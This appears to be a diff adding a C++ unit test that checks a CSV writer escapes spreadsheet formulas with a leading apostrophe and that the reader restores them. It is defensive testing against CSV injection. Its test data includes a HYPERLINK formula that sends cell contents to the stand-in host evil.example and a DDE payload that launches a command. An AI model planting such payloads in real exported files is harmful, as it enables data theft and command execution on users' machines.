@@ -162,6 +162,28 @@ TEST_CASE("CSV: what the writer writes, the reader reads back exactly", "[csv]")
     CHECK(back == records);
 }
 
+TEST_CASE("CSV: a cell a spreadsheet would run as a formula is written after a ', which the reader takes off again", "[csv]") {
+    // OWASP's CSV injection: what an agent can put in a name, and what a spreadsheet would run.
+    const std::vector<std::string> formulas = {"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
+                                               "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "\tTab", "\rReturn", "=1+1"};
+    for (const auto& f : formulas) {
+        INFO(f);
+        const std::string written = row({f, "plain"});
+        CHECK((written.starts_with("'") || written.starts_with("\"'")));
+        const auto parsed = office::csv::read(written);
+        REQUIRE(parsed.records.size() == 1);
+        CHECK(parsed.records[0].fields == std::vector<std::string>{f, "plain"});
+    }
+    // A name that really begins with ' keeps it: the mark is doubled on the way out, one taken off on the way in.
+    CHECK(row({"'Brien", "O'Neil"}) == "''Brien,O'Neil\r\n");
+    CHECK(office::csv::read("''Brien,O'Neil\r\n").records[0].fields == std::vector<std::string>{"'Brien", "O'Neil"});
+    // What other programs write is read as they meant it: a ' before anything else stays.
+    CHECK(office::csv::read("'Tis,'=1\r\n").records[0].fields == std::vector<std::string>{"'Tis", "=1"});
+    std::string nullable;
+    office::csv::append_nullable_row(nullable, {std::string("=cmd"), std::nullopt});
+    CHECK(nullable == "'=cmd,\r\n");
+}
+
 TEST_CASE("CSV: NULL and empty text are told apart, as PostgreSQL's COPY writes them, and read back so", "[csv]") {
     using office::csv::append_nullable_row;
     std::string out;
